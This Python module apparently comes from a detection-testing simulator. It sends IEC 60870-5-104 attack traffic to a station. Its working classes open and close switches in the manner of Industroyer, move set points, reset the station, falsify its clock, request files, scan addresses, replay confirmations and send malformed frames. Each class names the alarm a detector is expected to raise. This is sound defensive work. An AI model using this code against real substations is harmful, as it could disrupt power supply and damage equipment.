"""Attacks on a station that speaks IEC 60870-5-104, by a stranger who plays control centre: nobody asks who.

Each attack is one connection, bounded in frames and in time. Whether the station does what it is told is of no
interest: the tap sees what was asked.
"""

import asyncio
import struct
from collections.abc import Iterator
from typing import ClassVar, Final

from simulator.attacks import iec104frame as iec104

LONGEST_S: Final = 20.0
"""An attack that takes longer is given up."""
FRAMES_MAX: Final = 500
STATION: Final = 1
CHUNK: Final = 4096


class Iec104Attack:
    """One attack. `NAME` is what it is called, `CHECKS` are the kinds of alarm that must be raised.

    `station` is the common address that is commanded.
    """

    NAME: ClassVar[str]
    CHECKS: ClassVar[tuple[str, ...]]
    EACH_S: ClassVar[float] = 0.05
    """How long an answer is waited for before the next is sent."""

    def __init__(self, *, station: int = STATION) -> None:
        self.station = station

    def commands(self) -> Iterator[bytes]:
        """Yield the ASDUs that are sent, one after the other."""
        raise NotImplementedError

    def frames(self) -> Iterator[bytes]:
        """Yield whole frames: the start of data transfer, then the ASDUs with their numbers."""
        yield iec104.unnumbered(iec104.STARTDT)
        for number, asdu in enumerate(self.commands()):
            yield iec104.numbered(asdu, sent=number)

    async def run(self, host: str, port: int) -> None:
        """Connect, send, read what is answered, hang up.

        Raises:
            OSError: there is nobody, or the station hung up.
            TimeoutError: it takes too long.
        """
        async with asyncio.timeout(LONGEST_S):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                for number, frame in enumerate(self.frames()):
                    if number >= FRAMES_MAX:
                        break
                    writer.write(frame)
                    await writer.drain()
                    await _heard(reader, self.EACH_S)
            finally:
                writer.close()


class Iec104Switch(Iec104Attack):
    """Opens switch after switch, as the malware Industroyer did in Kyiv: off and on over a range of addresses."""

    NAME = "iec104_switch"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield single and double commands."""
        for address in range(1, 9):
            yield iec104.asdu(45, (address, b"\x00"), station=self.station)
            yield iec104.asdu(46, (address, b"\x01"), station=self.station)


class Iec104SetPoint(Iec104Attack):
    """Moves set points."""

    NAME = "iec104_set_point"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield one set point of each kind."""
        yield iec104.asdu(48, (100, struct.pack("<hB", 0x4000, 0)), station=self.station)
        yield iec104.asdu(49, (101, struct.pack("<hB", 1000, 0)), station=self.station)
        yield iec104.asdu(50, (102, struct.pack("<fB", 1e6, 0)), station=self.station)


class Iec104WrongTime(Iec104Attack):
    """Sets the clock of the station to the first day of 2000."""

    NAME = "iec104_wrong_time"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield one clock synchronisation (CP56Time2a)."""
        yield iec104.asdu(103, (0, bytes((0, 0, 0, 0, 1, 1, 0))), station=self.station)


class Iec104Reset(Iec104Attack):
    """Resets the process of the station."""

    NAME = "iec104_reset"
    CHECKS = ("critical_function",)

    def commands(self) -> Iterator[bytes]:
        """Yield one general reset."""
        yield iec104.asdu(105, (0, b"\x01"), station=self.station)


class Iec104FileTransfer(Iec104Attack):
    """Asks for the directory and for a file."""

    NAME = "iec104_file"
    CHECKS = ("file_or_program",)

    def commands(self) -> Iterator[bytes]:
        """Yield a call of the directory and the selection of a file, cause 5 and 13."""
        yield iec104.asdu(122, (0, bytes(4)), cause=5, station=self.station)
        yield iec104.asdu(122, (0, b"\x01\x00\x01\x01"), cause=13, station=self.station)


class Iec104StationScan(Iec104Attack):
    """Looks for common addresses: interrogates one after the other."""

    NAME = "iec104_station_scan"
    CHECKS = ("reconnaissance",)

    def commands(self) -> Iterator[bytes]:
        """Yield an interrogation of each of 32 stations."""
        for station in range(1, 33):
            yield iec104.asdu(100, (0, b"\x14"), station=station)


class Iec104Replay(Iec104Attack):
    """Confirms what nobody commanded."""

    NAME = "iec104_replay"
    CHECKS = ("orphan_response",)
    EACH_S = 0.5
    """With 30 of them, longer than the time after a start in which an answer without its question means nothing."""

    def commands(self) -> Iterator[bytes]:
        """Yield the same confirmation again and again."""
        for _ in range(30):
            yield iec104.asdu(45, (1, b"\x01"), cause=iec104.CONFIRM, station=self.station)


class Iec104Malformed(Iec104Attack):
    """Probes for weaknesses: types that do not exist, objects that are cut, control fields that cannot be."""

    NAME = "iec104_malformed"
    CHECKS = ("malformed",)

    def frames(self) -> Iterator[bytes]:
        """Yield broken frames."""
        yield iec104.unnumbered(iec104.STARTDT)
        for _ in range(4):
            yield iec104.numbered(iec104.asdu(99, (1, b"\x00"), station=self.station))
            yield iec104.numbered(iec104.asdu(45, (1, b""), station=self.station))
            yield b"\x68\x04\x05\x00\x00\x00"


ATTACKS: Final = (
    Iec104FileTransfer,
    Iec104Malformed,
    Iec104Replay,
    Iec104Reset,
    Iec104SetPoint,
    Iec104StationScan,
    Iec104Switch,
    Iec104WrongTime,
)


async def _heard(reader: asyncio.StreamReader, for_s: float) -> bytes:
    """Return what is answered soon, nothing if nobody answers."""
    try:
        return await asyncio.wait_for(reader.read(CHUNK), for_s)
    except TimeoutError:
        return b""
